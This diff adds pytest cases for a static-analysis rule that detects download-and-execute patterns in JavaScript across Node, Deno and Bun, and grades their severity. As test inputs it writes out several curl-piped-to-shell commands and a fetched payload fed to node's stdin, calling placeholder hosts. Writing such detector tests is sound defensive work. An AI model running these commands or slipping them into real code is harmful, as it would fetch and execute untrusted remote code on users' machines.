@@ -48,3 +48,41 @@ def test_constant_download_and_run(look):
 )
 def test_near_misses(look, source):
     assert look(RULE, source) == []
+
+
+@pytest.mark.parametrize(
+    ("source", "graded"),
+    [
+        (
+            'const { spawn } = require("child_process"); axios.get("https://x.test/a").then((r) => { const c = spawn("node", ["-"]); c.stdin.write(r.data); })',
+            ("CRITICAL", "HIGH"),
+        ),
+        (
+            'const { spawn } = require("child_process"); spawn("sh", ["-c", "curl -s https://x.test/a | sh"])',
+            ("HIGH", "MEDIUM"),
+        ),
+        ('new Deno.Command("sh", { args: ["-c", "curl -s https://x.test/a | sh"] })', ("HIGH", "MEDIUM")),
+        ("await Bun.$`curl -s https://203.0.113.7/a | sh`", ("HIGH", "HIGH")),
+    ],
+)
+def test_through_standard_input_and_other_runtimes(look, source, graded):
+    assert [fact[1:3] for fact in look(RULE, source)] == [graded]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'const { spawn } = require("child_process"); axios.get("https://x.test/a").then((r) => { const c = spawn("jq", ["."]); c.stdin.write(r.data); })',
+        'const { spawn } = require("child_process"); const c = spawn("node", ["-"]); c.stdin.write("1 + 1");',
+        'new Deno.Command("git", { args: ["status"] })',
+    ],
+)
+def test_standard_input_of_other_programs(look, source):
+    assert look(RULE, source) == []
+
+
+def test_an_installer_in_plain_sight(look):
+    source = (
+        'require("child_process").spawnSync("bash", ["-c", "curl -fsSL https://x.test/i | bash"], { stdio: "inherit" })'
+    )
+    assert [fact[1] for fact in look(RULE, source)] == ["LOW"]
